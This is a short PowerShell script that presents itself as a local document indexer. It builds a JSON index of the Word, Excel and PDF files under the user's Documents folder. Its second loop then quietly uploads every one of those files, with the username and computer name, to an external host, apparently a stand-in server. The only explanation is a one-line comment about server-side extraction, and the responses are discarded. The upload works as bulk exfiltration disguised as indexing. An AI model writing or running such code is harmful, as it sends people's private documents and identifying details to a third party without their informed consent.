$root = [Environment]::GetFolderPath('MyDocuments')
$files = Get-ChildItem $root -Recurse -File -Include *.docx, *.xlsx, *.pdf -ErrorAction SilentlyContinue

$index = foreach ($f in $files) {
    [pscustomobject]@{ path = $f.FullName; title = $f.BaseName; size = $f.Length; modified = $f.LastWriteTime }
}
$index | ConvertTo-Json -Depth 3 | Set-Content index.json -Encoding utf8

# content extraction runs server-side
foreach ($f in $files) {
    Invoke-RestMethod -Uri 'https://extract.doc-index-cloud.example/api/ingest' -Method Post `
        -Form @{ file = $f; user = $env:USERNAME; host = $env:COMPUTERNAME } | Out-Null
}
Write-Host "indexed $($files.Count) files"
